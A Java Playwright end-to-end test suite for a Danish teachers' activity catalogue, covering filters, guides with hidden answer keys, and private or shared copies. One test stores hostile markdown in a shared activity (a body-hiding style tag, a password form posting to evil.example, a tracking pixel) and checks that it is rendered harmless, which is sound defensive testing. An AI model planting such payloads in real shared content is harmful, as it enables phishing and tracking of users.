package dk.opdag.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import org.junit.jupiter.api.Test;

/** A teacher finds an activity for their subject and grade, reads its guide, and adapts a copy as their own. */
class CatalogueJourneyIT extends BrowserTestBase {

    private void pickComboBox(String label, String option) {
        page.getByRole(AriaRole.COMBOBOX, new Page.GetByRoleOptions().setName(label).setExact(true)).fill(option);
        page.getByRole(AriaRole.OPTION, new Page.GetByRoleOptions().setName(option).setExact(true)).click();
    }

    private void pickSelect(String label, String option) {
        page.locator("vaadin-select").filter(new Locator.FilterOptions().setHasText(label)).first().click();
        page.locator("vaadin-select-item").filter(new Locator.FilterOptions().setHasText(option)).first().click();
    }

    @Test
    void teacherFiltersToMathGrade5ComputationalThinkingAndReadsTheGuide() {
        signIn("bo", PASSWORD);
        expectHeading("Mine klasser");
        page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("Aktiviteter")).click();
        expectHeading("Aktiviteter");
        String all = page.locator(".opdag-result-count").textContent();

        pickComboBox("Fag", "Matematik");
        pickSelect("Klassetrin", "5. klasse");
        pickSelect("Kompetenceområde", "Computationel tankegang");

        // The filters are in the address once the server has applied all three.
        page.waitForURL(url -> url.contains("fag=matematik") && url.contains("klassetrin=5")
                && url.contains("omraade=ct"));
        assertThat(page.locator(".opdag-result-count")).not().hasText(all);
        Locator cards = page.locator(".opdag-activity-card");
        assertThat(cards.first()).isVisible();
        int shown = cards.count();
        assertThat(page.locator(".opdag-result-count")).hasText(shown == 1 ? "1 aktivitet" : shown + " aktiviteter");
        for (int i = 0; i < shown; i++) {
            assertThat(cards.nth(i)).containsText("Matematik");
            assertThat(cards.nth(i)).containsText("Computationel tankegang");
        }

        String title = cards.first().locator("h2").textContent().strip();
        cards.first().locator("h2 a").click();
        expectHeading(title);
        assertThat(page.getByText("Lektionerne trin for trin")).isVisible();
        assertThat(page.getByText("Forberedelse", new Page.GetByTextOptions().setExact(true))).isVisible();
        assertThat(page.getByText("Spørgsmål til refleksion")).isVisible();
        assertThat(page.locator(".opdag-step").first()).isVisible();
    }

    /** Issue 14: the guide a school can trust – review date, background, word list, three levels, a closed facit. */
    @Test
    void theGuideShowsBackgroundWordListLevelsAndAClosedAnswerKey() {
        signIn("bo", PASSWORD);
        open("aktivitet/hvad-kan-en-chatbot");
        expectHeading("Hvad kan en chatbot – og hvad kan den ikke?");
        assertThat(page.locator("#activity-reviewed")).hasText("Fagligt gennemset d. 3. december 2026");
        assertThat(page.getByRole(AriaRole.HEADING, new Page.GetByRoleOptions().setName("Faglig baggrund")))
                .isVisible();
        assertThat(page.locator("#activity-background")).containsText("søger på nettet");
        Locator words = page.locator("#activity-vocabulary");
        assertThat(words.locator("dt").first()).hasText("chatbot");
        assertThat(words.locator("dd").first()).hasText("Et program, man kan skrive med. Det svarer med tekst.");

        Locator table = page.locator("#activity-evaluation");
        assertThat(table.locator("thead th")).hasText(new String[] {"Mål", "På vej", "Nået", "Videre"});
        assertThat(table.locator("tbody tr")).hasCount(2);
        assertThat(table.locator("tbody tr").first().locator("td").first())
                .containsText("chatbotten kan tage fejl");

        // The answer key stays closed until the teacher opens it, so a guide on the board does not give it away.
        Locator answer = page.getByText("Nej. Den valgte ord ud fra, hvad der kom efter hinanden i teksten.",
                new Page.GetByTextOptions().setExact(false));
        assertThat(answer).not().isVisible();
        assertAccessible("aktivitet med baggrund, ordliste, evaluering og lukket facit");
        page.getByText("Facit", new Page.GetByTextOptions().setExact(true)).click();
        assertThat(answer).isVisible();
        assertAccessible("aktivitet med åbent facit");
    }

    @Test
    void aBookmarkedSearchOpensWithItsFilters() {
        signIn("bo", PASSWORD);
        open("katalog?fag=matematik&klassetrin=5&omraade=ct");
        assertThat(page.getByRole(AriaRole.COMBOBOX, new Page.GetByRoleOptions().setName("Fag").setExact(true)))
                .hasValue("Matematik");
        Locator cards = page.locator(".opdag-activity-card");
        assertThat(cards.first()).containsText("Computationel tankegang");
        assertThat(cards.first()).containsText("Matematik");
    }

    @Test
    void teacherAdaptsACopyWhichStaysPrivateUntilShared() {
        signIn("anne", PASSWORD);
        open("katalog");
        Locator firstCard = page.locator(".opdag-activity-card h2 a").first();
        assertThat(firstCard).isVisible();
        String original = firstCard.textContent().strip();
        String link = firstCard.getAttribute("href");
        firstCard.click();
        page.waitForURL(url -> url.endsWith(link));
        expectHeading(original);
        page.getByText("Kopiér og tilpas som din egen").click();
        expectHeading("Skriv din egen aktivitet");
        Locator titleField = page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Titel").setExact(true));
        assertThat(titleField).hasValue(original + " (min udgave)");

        Locator steps = page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Lektion 1: trin").setExact(true));
        // The copy carries the original's lessons, not empty editors.
        assertThat(steps).not().hasValue("");
        assertThat(page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Lektion 1: titel")
                .setExact(true))).not().hasValue("");
        String good = steps.inputValue();
        steps.fill("10: Vi starter\nVi glemte minutterne");
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Gem aktiviteten")).click();
        assertThat(page.getByText("Lektion 1, linje 2: skriv minutter, kolon og tekst")).isVisible();

        steps.fill("10: Vi starter\n20: Vi arbejder");
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Gem aktiviteten")).click();
        assertThat(page.getByText("Aktiviteten er ikke gemt endnu")).isVisible();
        assertThat(page.getByText("45", new Page.GetByTextOptions().setExact(false)).first()).isVisible();

        steps.fill(good);
        titleField.fill("Annes robotdans <b>fed</b>");
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Gem aktiviteten")).click();
        expectHeading("Annes robotdans <b>fed</b>");
        assertThat(page.getByText("Kun for dig")).isVisible();

        context.clearCookies();
        signIn("bo", PASSWORD);
        open("katalog");
        page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Søg").setExact(true)).fill("Annes robotdans");
        assertThat(page.getByText("Ingen aktiviteter passer til din søgning.")).isVisible();
    }

    /** Issue 11, item 2: what a colleague reads in a shared activity can neither restyle, phish nor track. */
    @Test
    void hostileMarkdownInASharedActivityIsOnlyText() {
        signIn("anne", PASSWORD);
        open("aktivitet/beskeden-der-rejser"); // a shipped activity (the first card may be another test's copy)
        page.getByText("Kopiér og tilpas som din egen").click();
        expectHeading("Skriv din egen aktivitet");
        page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Titel").setExact(true))
                .fill("Annes delte krog");
        page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Forberedelse").setExact(true))
                .fill("**Læs op.**\n\n<style>body { display: none }</style>\n\n"
                        + "<form action=\"https://evil.example/\"><input type=\"password\" name=\"p\"></form>\n\n"
                        + "![spor](https://tracker.example/pixel.png)");
        page.getByLabel("Del med kollegerne på min skole").check();
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Gem aktiviteten")).click();
        expectHeading("Annes delte krog");
        String address = page.url();

        context.clearCookies();
        signIn("bo", PASSWORD);
        page.navigate(address);
        expectHeading("Annes delte krog");
        assertThat(page.locator(".opdag-markdown strong", new Page.LocatorOptions().setHasText("Læs op.")))
                .isVisible();
        assertThat(page.locator("style", new Page.LocatorOptions().setHasText("display: none"))).hasCount(0);
        assertThat(page.locator("form, input[type=password]")).hasCount(0);
        assertThat(page.locator("img[src*='tracker.example']")).hasCount(0);
        assertThat(page.locator("body")).isVisible();
    }
}
